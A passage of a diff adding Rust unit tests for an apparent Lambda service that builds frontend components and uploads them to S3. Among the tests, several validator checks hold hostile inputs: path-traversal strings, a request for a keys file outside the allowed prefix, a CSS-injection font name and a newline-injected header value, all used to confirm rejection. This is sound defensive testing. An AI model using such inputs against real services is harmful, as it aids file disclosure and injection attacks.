+        assert_eq!(clean, json!({ "hasWarnings": false }));
+    }
+
+    #[tokio::test]
+    async fn test_all_emitted_files_are_listed() {
+        let dir = tempfile::tempdir().unwrap();
+        for name in [
+            "index.html",
+            "index.js",
+            "chunk-2fce6291.js",
+            "logo-a1b2c3.svg",
+        ] {
+            std::fs::write(dir.path().join(name), name).unwrap();
+        }
+
+        let store = MemoryStore::default();
+        let summary = upload_dir(
+            &store,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap();
+
+        let listing = file_listing("https://d123.cloudfront.net", "abc", &summary.files);
+
+        assert_eq!(
+            listing,
+            json!([
+                { "name": "chunk-2fce6291.js", "url": "https://d123.cloudfront.net/abc/chunk-2fce6291.js" },
+                { "name": "index.html", "url": "https://d123.cloudfront.net/abc/index.html" },
+                { "name": "index.js", "url": "https://d123.cloudfront.net/abc/index.js" },
+                { "name": "logo-a1b2c3.svg", "url": "https://d123.cloudfront.net/abc/logo-a1b2c3.svg" }
+            ])
+        );
+    }
+
+    #[tokio::test]
+    async fn test_killed_step_reports_out_of_memory() {
+        let mut command = Command::new("sh");
+        command.arg("-c").arg("kill -9 $$");
+
+        let failure = run_build_step("Bun build", &mut command, DEFAULT_BUILD_TIMEOUT)
+            .await
+            .unwrap_err();
+
+        assert_eq!(failure.status, 500);
+        assert_eq!(
+            failure.message,
+            "build ran out of memory; increase Lambda memory"
+        );
+
+        let response = failure.into_response().unwrap();
+        assert_eq!(response.headers()["x-error-code"], "out_of_memory");
+    }
+
+    #[tokio::test]
+    async fn test_versioned_publish_key_layout() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.html"), "<html></html>").unwrap();
+        std::fs::write(dir.path().join("index.js"), "console.log(1)").unwrap();
+
+        let prefix = upload_prefix("abc", Some("1.2.0"));
+        let store = MemoryStore::default();
+        for prefix in [prefix.as_str(), "abc/latest"] {
+            upload_dir(
+                &store,
+                "bucket",
+                dir.path(),
+                prefix,
+                &UploadOptions::default(),
+            )
+            .await
+            .unwrap();
+        }
+
+        assert_eq!(
+            store.put_keys(),
+            vec![
+                "abc/1.2.0/index.html",
+                "abc/1.2.0/index.js",
+                "abc/latest/index.html",
+                "abc/latest/index.js"
+            ]
+        );
+        assert_eq!(upload_prefix("abc", None), "abc");
+    }
+
+    #[test]
+    fn test_invalid_version_is_rejected() {
+        let data = parse_request_body(br#"{"component_id": "abc", "code": "x", "version": "1.2"}"#)
+            .unwrap();
+        assert_eq!(
+            data.validate().unwrap_err(),
+            "version must be a semantic version: 1.2"
+        );
+
+        assert!(is_valid_semver("1.2.0"));
+        assert!(is_valid_semver("1.0.0-beta.1+build.5"));
+        assert!(!is_valid_semver("01.2.0"));
+        assert!(!is_valid_semver("1.2.0-"));
+        assert!(!is_valid_semver("1.2.0/../x"));
+        assert!(!is_valid_semver("latest"));
+    }
+
+    #[tokio::test]
+    async fn test_module_extensions_are_served_as_javascript() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.mjs"), "export {}").unwrap();
+        std::fs::write(dir.path().join("index.cjs"), "module.exports = {}").unwrap();
+        std::fs::write(dir.path().join("index.css"), "body {}").unwrap();
+
+        let store = MemoryStore::default();
+        upload_dir(
+            &store,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap();
+
+        for key in ["abc/index.mjs", "abc/index.cjs"] {
+            assert_eq!(
+                store.find_put(key).unwrap().content_type,
+                "application/javascript"
+            );
+        }
+        assert_eq!(
+            store.find_put("abc/index.css").unwrap().content_type,
+            "text/css"
+        );
+    }
+
+    #[tokio::test]
+    async fn test_missing_tailwind_is_a_server_error() {
+        let mut command = Command::new("sh");
+        command.arg("-c").arg(
+            "echo 'error: could not determine executable to run for package @tailwindcss/cli' >&2; exit 1",
+        );
+
+        let failure = run_build_step("Tailwind build", &mut command, DEFAULT_BUILD_TIMEOUT)
+            .await
+            .unwrap_err();
+        let failure = missing_tailwind_failure(failure);
+
+        assert_eq!(failure.status, 500);
+        assert_eq!(failure.code, Some("tailwind_missing"));
+        assert!(failure.message.contains("Tailwind CLI is not installed"));
+    }
+
+    #[tokio::test]
+    async fn test_tailwind_css_error_stays_422() {
+        let mut command = Command::new("sh");
+        command
+            .arg("-c")
+            .arg("echo 'CssSyntaxError: Unknown word in globals.css' >&2; exit 1");
+
+        let failure = run_build_step("Tailwind build", &mut command, DEFAULT_BUILD_TIMEOUT)
+            .await
+            .unwrap_err();
+        let failure = missing_tailwind_failure(failure);
+
+        assert_eq!(failure.status, 422);
+        assert!(failure.message.contains("Unknown word"));
+    }
+
+    #[tokio::test]
+    async fn test_success_response_is_not_cacheable() {
+        let store = MemoryStore::default().with_etag("abc/index.html", "etag");
+        let response = component_exists_response(&store, "bucket", "abc")
+            .await
+            .unwrap();
+
+        let response = with_cache_control(response, DEFAULT_RESPONSE_CACHE_CONTROL);
+        assert_eq!(response.status(), 200);
+        assert_eq!(response.headers()[CACHE_CONTROL], "no-store");
+
+        let error = error_response(400, "bad".to_string()).unwrap();
+        let error = with_cache_control(error, "private, max-age=60");
+        assert_eq!(error.headers()[CACHE_CONTROL], "private, max-age=60");
+
+        let fallback = with_cache_control(empty_response(200).unwrap(), "bad\nvalue");
+        assert_eq!(fallback.headers()[CACHE_CONTROL], "no-store");
+    }
+
+    #[tokio::test]
+    async fn test_size_delta_against_previous_build() {
+        let store = MemoryStore::default()
+            .with_object("abc/_nimbus-sizes.json", br#"{"js": 1000, "css": 204}"#);
+        let current = BundleSizes { js: 1123, css: 200 };
+
+        let delta = record_sizes(&store, "bucket", "abc", &current)
+            .await
+            .unwrap();
+
+        assert_eq!(delta, Some(json!({ "js": 123, "css": -4 })));
+        assert_eq!(
+            store.put_body("abc/_nimbus-sizes.json").unwrap(),
+            serde_json::to_vec(&current).unwrap()
+        );
+
+        let first = record_sizes(&MemoryStore::default(), "bucket", "new", &current)
+            .await
+            .unwrap();
+        assert_eq!(first, None);
+    }
+
+    #[tokio::test]
+    async fn test_leftover_workspace_is_replaced() {
+        let tmp = tempfile::tempdir().unwrap();
+        let templates = tmp.path().join("templates");
+        let workspace = tmp.path().join("abc");
+
+        std::fs::create_dir_all(&templates).unwrap();
+        std::fs::write(templates.join("package.json"), "{}").unwrap();
+        std::fs::create_dir_all(workspace.join("dist")).unwrap();
+        std::fs::write(workspace.join("dist/index.js"), "stale").unwrap();
+
+        replace_dir(&templates, &workspace).await.unwrap();
+
+        assert!(!templates.exists());
+        assert!(workspace.join("package.json").exists());
+        assert!(!workspace.join("dist").exists());
+    }
+
+    #[tokio::test]
+    async fn test_excluded_files_are_not_uploaded() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.js"), "console.log(1)").unwrap();
+        std::fs::write(dir.path().join("index.js.map"), "{}").unwrap();
+
+        let store = MemoryStore::default();
+        let options = UploadOptions {
+            exclude: vec!["*.map".to_string()],
+            ..Default::default()
+        };
+        let summary = upload_dir(&store, "bucket", dir.path(), "abc", &options)
+            .await
+            .unwrap();
+
+        assert_eq!(store.put_keys(), vec!["abc/index.js"]);
+        assert_eq!(summary.files, vec!["index.js"]);
+    }
+
+    #[test]
+    fn test_glob_matching() {
+        assert!(glob_matches("*.map", "index.js.map"));
+        assert!(glob_matches("*.d.ts", "index.d.ts"));
+        assert!(glob_matches("chunk-????.js", "chunk-ab12.js"));
+        assert!(glob_matches("*", "anything"));
+        assert!(!glob_matches("*.map", "index.js"));
+        assert!(!glob_matches("chunk-?.js", "chunk-ab.js"));
+
+        assert!(validate_glob("*.map").is_ok());
+        assert!(validate_glob("../*").is_err());
+        assert!(validate_glob("").is_err());
+    }
+
+    #[test]
+    fn test_build_duration_header_is_numeric() {
+        for response in [
+            empty_response(200).unwrap(),
+            error_response(422, "Bun build failed".to_string()).unwrap(),
+        ] {
+            let response = with_build_duration(response, Duration::from_millis(1234));
+            let value = response.headers()["x-build-duration-ms"].to_str().unwrap();
+
+            assert_eq!(value.parse::<u64>().unwrap(), 1234);
+        }
+    }
+
+    #[tokio::test]
+    async fn test_source_is_fetched_from_bucket() {
+        let source = "export default () => <p>staged</p>";
+        let store = MemoryStore::default().with_object("sources/abc.tsx", source.as_bytes());
+
+        let data =
+            parse_request_body(br#"{"component_id": "abc", "source_s3_key": "sources/abc.tsx"}"#)
+                .unwrap();
+        assert!(data.validate().is_ok());
+
+        let key = data.source_s3_key.as_deref().unwrap();
+        let code = fetch_source(&store, "bucket", key, DEFAULT_SOURCE_KEY_PREFIX)
+            .await
+            .unwrap();
+        assert_eq!(code, source);
+
+        let outside = fetch_source(
+            &store,
+            "bucket",
+            "private/keys.txt",
+            DEFAULT_SOURCE_KEY_PREFIX,
+        )
+        .await
+        .unwrap_err();
+        assert_eq!(outside.status, 403);
+
+        let missing = fetch_source(
+            &store,
+            "bucket",
+            "sources/nope.tsx",
+            DEFAULT_SOURCE_KEY_PREFIX,
+        )
+        .await
+        .unwrap_err();
+        assert_eq!(missing.status, 400);
+    }
+
+    #[test]
+    fn test_only_unexpected_cleanup_errors_warn() {
+        use std::io::{Error as IoError, ErrorKind};
+
+        assert_eq!(cleanup_warning(Ok(())), None);
+        assert_eq!(
+            cleanup_warning(Err(IoError::from(ErrorKind::NotFound))),
+            None
+        );
+
+        let warning = cleanup_warning(Err(IoError::from(ErrorKind::PermissionDenied))).unwrap();
+        assert!(warning.starts_with("Failed to remove workspace: "));
+    }
+
+    #[tokio::test]
+    async fn test_copy_is_retried_after_a_transient_failure() {
+        use std::sync::atomic::{AtomicU32, Ordering};
+
+        let calls = AtomicU32::new(0);
+        let counter = &calls;
+        let result = with_retries("Template copy", 3, Duration::ZERO, || async move {
+            if counter.fetch_add(1, Ordering::SeqCst) == 0 {
+                Err("cp command failed: No such file or directory".to_string())
+            } else {
+                Ok(())
+            }
+        })
+        .await;
+
+        assert!(result.is_ok());
+        assert_eq!(calls.load(Ordering::SeqCst), 2);
+
+        let calls = AtomicU32::new(0);
+        let counter = &calls;
+        let result: Result<(), String> =
+            with_retries("Template copy", 2, Duration::ZERO, || async move {
+                counter.fetch_add(1, Ordering::SeqCst);
+                Err("cp command failed: disk busy".to_string())
+            })
+            .await;
+
+        assert_eq!(result.unwrap_err(), "cp command failed: disk busy");
+        assert_eq!(calls.load(Ordering::SeqCst), 2);
+    }
+
+    #[tokio::test]
+    async fn test_response_headers_are_set_on_html_only() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.html"), "<html></html>").unwrap();
+        std::fs::write(dir.path().join("index.js"), "console.log(1)").unwrap();
+
+        let store = MemoryStore::default();
+        let options = UploadOptions {
+            html_metadata: BTreeMap::from([("x-frame-options".to_string(), "DENY".to_string())]),
+            ..Default::default()
+        };
+        upload_dir(&store, "bucket", dir.path(), "abc", &options)
+            .await
+            .unwrap();
+
+        let html = store.find_put("abc/index.html").unwrap();
+        assert_eq!(html.metadata["x-frame-options"], "DENY");
+        assert!(store.find_put("abc/index.js").unwrap().metadata.is_empty());
+
+        assert!(validate_response_header("X-Frame-Options", "SAMEORIGIN").is_ok());
+        assert!(validate_response_header("X Frame", "DENY").is_err());
+        assert!(validate_response_header("Built-At", "now").is_err());
+        assert!(validate_response_header("X-Note", "caf\u{e9}").is_err());
+    }
+
+    #[tokio::test]
+    async fn test_s3_client_is_built_once() {
+        let s3 = SharedStore::new(MemoryConnector::default());
+        let config = config_with(&[("S3_MAX_CONNECTIONS", "4")]);
+
+        for _ in 0..2 {
+            let request = lambda_http::http::Request::builder()
+                .method(Method::HEAD)
+                .body(Body::Empty)
+                .unwrap()
+                .with_query_string_parameters(HashMap::from([(
+                    "component_id".to_string(),
+                    "abc".to_string(),
+                )]));
+            let response = build_component(request, &Progress::default(), &config, &s3)
+                .await
+                .unwrap();
+            assert_eq!(response.status(), 404);
+        }
+
+        assert_eq!(s3.connector.connects(), 1);
+        assert_eq!(s3.get(&config).await.max_connections(), 4);
+    }
+
+    #[tokio::test]
+    async fn test_stats_file_is_uploaded() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.js"), "console.log(1)").unwrap();
+        std::fs::write(dir.path().join(STATS_FILE), r#"{"inputs":{},"outputs":{}}"#).unwrap();
+
+        let store = MemoryStore::default();
+        let summary = upload_dir(
+            &store,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap();
+
+        assert!(summary.files.contains(&STATS_FILE.to_string()));
+        assert_eq!(
+            store.find_put("abc/stats.json").unwrap().content_type,
+            "application/json"
+        );
+        assert_eq!(
+            original_url("https://d123.cloudfront.net", "abc", STATS_FILE),
+            "https://d123.cloudfront.net/abc/stats.json"
+        );
+    }
+
+    #[test]
+    fn test_reserved_component_id_is_rejected() {
+        for id in ["health", "assets", "_nimbus", "_nimbus-markers", "Health"] {
+            let body = json!({ "component_id": id, "code": "x" }).to_string();
+            let data = parse_request_body(body.as_bytes()).unwrap();
+
+            assert_eq!(data.validate().unwrap_err(), "reserved component_id");
+        }
+
+        assert!(!is_reserved_component_id("healthcheck-card"));
+    }
+
+    #[test]
+    fn test_component_id_must_be_one_segment() {
+        for id in ["../x", "/var/task", "a/b", "", ".", "abc def"] {
+            let body = json!({ "component_id": id, "code": "x" }).to_string();
+            let data = parse_request_body(body.as_bytes()).unwrap();
+
+            assert_eq!(
+                data.validate().unwrap_err(),
+                format!("invalid component_id: {}", id)
+            );
+        }
+
+        assert!(is_valid_component_id("Card_v2-beta"));
+        assert!(!is_valid_component_id(
+            &"a".repeat(MAX_COMPONENT_ID_LEN + 1)
+        ));
+    }
+
+    fn request_with_if_none_match(body: &str, if_none_match: &str) -> Request {
+        let mut request = Request::new(Body::from(body.to_string()));
+        request
+            .headers_mut()
+            .insert(IF_NONE_MATCH, if_none_match.parse().unwrap());
+        request
+    }
+
+    #[tokio::test]
+    async fn test_matching_if_none_match_is_304() {
+        let body = r#"{"component_id": "abc", "code": "x"}"#;
+        let etag = inputs_etag(body.as_bytes());
+
+        let response = build_component(
+            request_with_if_none_match(body, &format!("W/\"stale\", {}", etag)),
+            &Progress::default(),
+            &config_with(&[]),
+            &SharedStore::new(MemoryConnector::default()),
+        )
+        .await
+        .unwrap();
+
+        assert_eq!(response.status(), 304);
+        assert_eq!(response.headers()[ETAG], etag.as_str());
+    }
+
+    #[test]
+    fn test_mismatched_if_none_match_builds() {
+        let body = r#"{"component_id": "abc", "code": "x"}"#;
+        let etag = inputs_etag(body.as_bytes());
+        let changed = inputs_etag(br#"{"component_id": "abc", "code": "y"}"#);
+
+        assert_ne!(etag, changed);
+        assert!(!is_not_modified(
+            &request_with_if_none_match(body, &changed),
+            &etag
+        ));
+        assert!(!is_not_modified(&Request::new(Body::from(body)), &etag));
+    }
+
+    #[tokio::test]
+    async fn test_viewport_variants_produce_sized_pages() {
+        let dir = tempfile::tempdir().unwrap();
+        let variants = vec![
+            ViewportVariant {
+                name: "mobile".to_string(),
+                width: 375,
+                height: 812,
+            },
+            ViewportVariant {
+                name: "desktop".to_string(),
+                width: 1440,
+                height: 900,
+            },
+        ];
+
+        write_variant_pages(dir.path(), &variants, &HtmlOptions::default())
+            .await
+            .unwrap();
+
+        let mobile = std::fs::read_to_string(dir.path().join("mobile.html")).unwrap();
+        let desktop = std::fs::read_to_string(dir.path().join("desktop.html")).unwrap();
+        assert!(mobile.contains("body { width: 375px; height: 812px;"));
+        assert!(desktop.contains("body { width: 1440px; height: 900px;"));
+        assert!(desktop.contains(r#"src="./index.js""#));
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_environment_is_reported() {
+        let _serial = HANDLER_BUILDS.lock().await;
+        let root = esbuild_task_root();
+        let config = esbuild_config(root.path(), &[("ENV_NAME", "staging")]);
+        let s3 = SharedStore::new(MemoryConnector::default());
+        let body =
+            json!({ "component_id": "environment-reported", "code": "export default () => null;" });
+
+        let response = build_component(
+            Request::new(Body::from(body.to_string())),
+            &Progress::default(),
+            &config,
+            &s3,
+        )
+        .await
+        .unwrap();
+
+        assert_eq!(response.status(), 200);
+        let response_body: serde_json::Value = serde_json::from_slice(response.body()).unwrap();
+        assert_eq!(response_body["environment"], "staging");
+
+        let mut unnamed = json!({});
+        add_environment(&mut unnamed, None);
+        assert!(unnamed.get("environment").is_none());
+    }
+
+    #[tokio::test]
+    async fn test_split_chunks_are_uploaded_with_relative_paths() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join("index.js"),
+            r#"import { a } from "./chunk-2fce6291.js";"#,
+        )
+        .unwrap();
+        std::fs::write(dir.path().join("chunk-2fce6291.js"), "export const a = 1;").unwrap();
+        std::fs::create_dir_all(dir.path().join("pages")).unwrap();
+        std::fs::write(
+            dir.path().join("pages/Card.js"),
+            r#"import { a } from "../chunk-2fce6291.js";"#,
+        )
+        .unwrap();
+        std::fs::write(
+            dir.path().join("index.html"),
+            render_html(&HtmlOptions::default()),
+        )
+        .unwrap();
+
+        let store = MemoryStore::default();
+        upload_dir(
+            &store,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap();
+
+        assert_eq!(
+            store.put_keys(),
+            vec![
+                "abc/chunk-2fce6291.js",
+                "abc/index.html",
+                "abc/index.js",
+                "abc/pages/Card.js"
+            ]
+        );
+        let html = String::from_utf8(store.put_body("abc/index.html").unwrap()).unwrap();
+        assert!(html.contains(r#"<script type="module" src="./index.js">"#));
+    }
+
+    #[test]
+    fn test_duplicate_submitted_files_are_400() {
+        let data = parse_request_body(
+            br#"{
+                "component_id": "abc",
+                "code": "export default () => null",
+                "files": [
+                    {"path": "components/Card.tsx", "content": "a"},
+                    {"path": "./components/Card.tsx", "content": "b"}
+                ]
+            }"#,
+        )
+        .unwrap();
+
+        assert_eq!(
+            data.validate().unwrap_err(),
+            "duplicate file path: ./components/Card.tsx"
+        );
+    }
+
+    #[tokio::test]
+    async fn test_favicon_is_uploaded_and_linked() {
+        let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR";
+        let dir = tempfile::tempdir().unwrap();
+
+        let file_name = write_favicon(dir.path(), &BASE64.encode(png))
+            .await
+            .unwrap();
+        assert_eq!(file_name, "favicon.png");
+
+        let html = render_html(&HtmlOptions {
+            favicon: Some(file_name),
+            ..Default::default()
+        });
+        std::fs::write(dir.path().join("index.html"), &html).unwrap();
+
+        let store = MemoryStore::default();
+        upload_dir(
+            &store,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap();
+
+        let put = store.find_put("abc/favicon.png").unwrap();
+        assert_eq!(put.content_type, "image/png");
+        assert_eq!(put.body, png);
+        assert!(html.contains(r#"<link rel="icon" href="./favicon.png" />"#));
+
+        assert!(decode_favicon(&BASE64.encode(b"GIF89a")).is_err());
+        assert!(decode_favicon("not base64!").is_err());
+    }
+
+    #[tokio::test]
+    async fn test_fonts_are_uploaded_and_preloaded() {
+        let woff2 = b"wOF2\0\x01\0\0";
+        let dir = tempfile::tempdir().unwrap();
+        let font = AssetFile {
+            name: "Inter-Bold.woff2".to_string(),
+            content: BASE64.encode(woff2),
+            family: Some("Inter".to_string()),
+        };
+
+        let fonts = write_fonts(dir.path(), &[font]).await.unwrap();
+        assert_eq!(fonts, vec!["Inter-Bold.woff2"]);
+
+        let html = render_html(&HtmlOptions {
+            fonts: &fonts,
+            ..Default::default()
+        });
+        std::fs::write(dir.path().join("index.html"), &html).unwrap();
+
+        let store = MemoryStore::default();
+        upload_dir(
+            &store,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap();
+
+        let put = store.find_put("abc/fonts/Inter-Bold.woff2").unwrap();
+        assert_eq!(put.content_type, "font/woff2");
+        assert_eq!(put.body, woff2);
+        let css = store.find_put("abc/fonts.css").unwrap();
+        assert!(String::from_utf8(css.body)
+            .unwrap()
+            .contains(r#"font-family: "Inter";"#));
+        assert!(html.contains(
+            r#"<link rel="preload" href="./fonts/Inter-Bold.woff2" as="font" type="font/woff2" crossorigin />"#
+        ));
+
+        let invalid = |name: &str, family: Option<&str>| {
+            decode_font(&AssetFile {
+                name: name.to_string(),
+                content: BASE64.encode(woff2),
+                family: family.map(String::from),
+            })
+            .is_err()
+        };
+        assert!(invalid("Inter.gif", None));
+        assert!(invalid("../Inter.woff2", None));
+        assert!(invalid("Inter.woff2", Some("Inter\"; color: red")));
+        assert!(!invalid("Inter.woff2", None));
+    }
+
+    #[tokio::test]
+    async fn test_endpoint_override_is_applied() {
+        let sdk_config = aws_config::SdkConfig::builder()
+            .behavior_version(aws_config::BehaviorVersion::latest())
+            .region(aws_sdk_s3::config::Region::new("us-east-1"))
+            .build();
+        let with_credentials = |config: aws_sdk_s3::Config| {
+            let credentials =
+                aws_sdk_s3::config::Credentials::new("AKID", "secret", None, None, "test");
+            Client::from_conf(
+                config
+                    .to_builder()
+                    .credentials_provider(credentials)
+                    .build(),
+            )
+        };
+
+        let minio = with_credentials(s3_config(
+            &sdk_config,
+            Some("http://localhost:9000"),
+            "bucket",
+        ));
+        let url = minio
+            .presign_get("bucket", "abc/bundle.zip", ARCHIVE_URL_TTL)
+            .await
+            .unwrap();
+        assert!(url.starts_with("http://localhost:9000/bucket/abc/bundle.zip?"));
+
+        let aws = with_credentials(s3_config(&sdk_config, None, "bucket"));
+        let url = aws
+            .presign_get("bucket", "abc/bundle.zip", ARCHIVE_URL_TTL)
+            .await
+            .unwrap();
+        assert!(url.starts_with("https://bucket.s3.us-east-1.amazonaws.com/abc/bundle.zip?"));
+
+        let dotted = with_credentials(s3_config(&sdk_config, None, "previews.example.com"));
+        let url = dotted
+            .presign_get("previews.example.com", "abc/bundle.zip", ARCHIVE_URL_TTL)
+            .await
+            .unwrap();
+        assert!(url.starts_with(
+            "https://s3.us-east-1.amazonaws.com/previews.example.com/abc/bundle.zip?"
+        ));
+    }
+
+    #[test]
+    fn test_empty_body_is_named() {
+        assert_eq!(
+            parse_request_body(b"").unwrap_err(),
+            "request body is empty"
+        );
+        assert_eq!(
+            parse_request_body(b" \n").unwrap_err(),
+            "request body is empty"
+        );
+    }
+
+    #[tokio::test]
+    async fn test_verify_passes_for_uploaded_files() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.html"), "<html></html>").unwrap();
+        std::fs::write(dir.path().join("index.js"), "console.log(1)").unwrap();
+        let store = MemoryStore::default();
+
+        let summary = upload_dir(
+            &store,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap();
+
+        assert!(
+            verify_upload(&store, "bucket", "abc", "index.html", &summary.files)
+                .await
+                .is_ok()
+        );
+    }
+
+    #[tokio::test]
+    async fn test_verify_reports_missing_object() {
+        let store = MemoryStore::default().with_object("abc/index.html", b"<html></html>");
+        let published = vec!["index.html".to_string(), "index.js".to_string()];
+
+        let failure = verify_upload(&store, "bucket", "abc", "index.html", &published)
+            .await
+            .unwrap_err();
+        assert_eq!(failure.status, 500);
+        assert_eq!(failure.message, "uploaded object is missing: abc/index.js");
+
+        let response = failure.into_response().unwrap();
+        assert_eq!(response.status(), 500);
+        assert_eq!(response.headers()["x-error-code"], "verify_failed");
+    }
+
+    #[tokio::test]
+    async fn test_screenshot_is_uploaded_as_png() {
+        use std::os::unix::fs::PermissionsExt;
+
+        let dir = tempfile::tempdir().unwrap();
+        let out_dir = dir.path().join("dist");
+        std::fs::create_dir(&out_dir).unwrap();
+        std::fs::write(out_dir.join("index.html"), "<html></html>").unwrap();
+
+        let browser = dir.path().join("chromium");
+        std::fs::write(
+            &browser,
+            "#!/bin/sh\nfor arg; do case $arg in --screenshot=*) printf 'PNG' > \"${arg#--screenshot=}\";; esac; done\n",
+        )
+        .unwrap();
+        std::fs::set_permissions(&browser, std::fs::Permissions::from_mode(0o755)).unwrap();
+
+        capture_screenshot(
+            browser.to_str().unwrap(),
+            &out_dir,
+            "index.html",
+            DEFAULT_BUILD_TIMEOUT,
+        )
+        .await
+        .unwrap();
+
+        let store = MemoryStore::default();
+        upload_dir(&store, "bucket", &out_dir, "abc", &UploadOptions::default())
+            .await
+            .unwrap();
+
+        let put = store.find_put("abc/preview.png").unwrap();
+        assert_eq!(put.content_type, "image/png");
+        assert_eq!(put.body, b"PNG");
+    }
+
+    #[tokio::test]
+    async fn test_screenshot_without_image_fails() {
+        let dir = tempfile::tempdir().unwrap();
+
+        let failure = capture_screenshot("true", dir.path(), "index.html", DEFAULT_BUILD_TIMEOUT)
+            .await
+            .unwrap_err();
+        assert_eq!(failure.status, 500);
+    }
+
+    #[tokio::test]
+    async fn test_single_file_uploads_no_stylesheet() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.js"), "render();").unwrap();
+        std::fs::write(dir.path().join("index.css"), ".p-4{padding:1rem}").unwrap();
+        std::fs::write(dir.path().join("index.html"), "<html></html>").unwrap();
+
+        inline_stylesheet(dir.path()).await.unwrap();
+
+        let store = MemoryStore::default();
+        upload_dir(
+            &store,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap();
+        assert_eq!(store.put_keys(), ["abc/index.html", "abc/index.js"]);
+
+        let js = String::from_utf8(store.put_body("abc/index.js").unwrap()).unwrap();
+        assert!(js.contains(r#"s.textContent=".p-4{padding:1rem}""#));
+        assert!(js.ends_with("render();"));
+    }
+
+    #[test]
+    fn test_short_deadline_stops_before_phase() {
+        let now = SystemTime::now();
+
+        let failure = check_deadline(Some(now + Duration::from_secs(3)), now).unwrap_err();
+        assert_eq!(failure.status, 504);
+        assert_eq!(failure.message, "insufficient time remaining");
+
+        assert!(check_deadline(Some(now - Duration::from_secs(1)), now).is_err());
+        assert!(check_deadline(Some(now + Duration::from_secs(60)), now).is_ok());
+        assert!(check_deadline(None, now).is_ok());
+    }
+
+    #[test]
+    fn test_deadline_comes_from_lambda_context() {
+        let mut context = lambda_http::lambda_runtime::Context::default();
+        context.deadline = 1_700_000_000_000;
+        let event = Request::default().with_lambda_context(context);
+
+        assert_eq!(
+            invocation_deadline(&event),
+            Some(UNIX_EPOCH + Duration::from_secs(1_700_000_000))
+        );
+        assert_eq!(invocation_deadline(&Request::default()), None);
+    }
+
+    #[tokio::test]
+    async fn test_asset_urls_cover_every_uploaded_file() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir(dir.path().join("assets")).unwrap();
+        std::fs::write(dir.path().join("index.html"), "<html></html>").unwrap();
+        std::fs::write(dir.path().join("index.js"), "console.log(1)").unwrap();
+        std::fs::write(dir.path().join("assets/logo.svg"), "<svg/>").unwrap();
+        let store = MemoryStore::default();
+
+        let summary = upload_dir(
+            &store,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap();
+        let urls = asset_urls("https://d111.cloudfront.net/", "abc", &summary.files);
+
+        assert_eq!(urls.len(), store.put_keys().len());
+        for key in store.put_keys() {
+            assert!(urls.contains(&format!("https://d111.cloudfront.net/{}", key)));
+        }
+    }
+
+    #[test]
+    fn test_early_return_removes_the_workspace() {
+        let dir = tempfile::tempdir().unwrap();
+        let workspace = dir.path().join("abc");
+        std::fs::create_dir_all(workspace.join("src")).unwrap();
+
+        {
+            let _guard = WorkspaceGuard {
+                workspace_dir: &workspace,
+                component_id: "abc",
+                trash_grace: None,
+                armed: true,
+            };
+        }
+        assert!(!workspace.exists());
+
+        std::fs::create_dir_all(workspace.join("src")).unwrap();
+        {
+            let mut guard = WorkspaceGuard {
+                workspace_dir: &workspace,
+                component_id: "abc",
+                trash_grace: None,
+                armed: true,
+            };
+            guard.disarm();
+        }
+        assert!(workspace.exists());
+    }
+
+    #[tokio::test]
+    async fn test_cleanup_moves_workspace_to_trash() {
+        let dir = tempfile::tempdir().unwrap();
+        let workspace = dir.path().join("abc");
+        let trash = dir.path().join(".nimbus-trash");
+        std::fs::create_dir_all(workspace.join("dist")).unwrap();
+        std::fs::write(workspace.join("dist/index.js"), "console.log(1)").unwrap();
+        let trashed_at = UNIX_EPOCH + Duration::from_secs(1_700_000_000);
+
+        move_to_trash(&workspace, &trash, "abc", trashed_at)
+            .await
+            .unwrap();
+
+        assert!(!workspace.exists());
+        assert!(trash.join("abc-1700000000000/dist/index.js").exists());
+
+        let soon = trashed_at + Duration::from_secs(30);
+        assert_eq!(
+            sweep_trash(&trash, Duration::from_secs(60), soon)
+                .await
+                .unwrap(),
+            0
+        );
+        let later = trashed_at + Duration::from_secs(120);
+        assert_eq!(
+            sweep_trash(&trash, Duration::from_secs(60), later)
+                .await
+                .unwrap(),
+            1
+        );
+        assert!(!trash.join("abc-1700000000000").exists());
+    }
+
+    #[tokio::test]
+    async fn test_tsconfig_replaces_template_config() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join("tsconfig.json"),
+            r#"{"compilerOptions":{}}"#,
+        )
+        .unwrap();
+        let tsconfig = r#"{"compilerOptions":{"baseUrl":".","paths":{"~/*":["./src/*"]}}}"#;
+
+        let body = json!({"component_id": "abc", "code": "x", "tsconfig": tsconfig}).to_string();
+        let data = parse_request_body(body.as_bytes()).unwrap();
+        assert!(data.validate().is_ok());
+
+        write_tsconfig(dir.path(), data.tsconfig.as_deref().unwrap())
+            .await
+            .unwrap();
+        assert_eq!(
+            std::fs::read_to_string(dir.path().join("tsconfig.json")).unwrap(),
+            tsconfig
+        );
+    }
+
+    #[test]
+    fn test_tsconfig_must_be_json_object() {
+        let validate = |tsconfig: &str| {
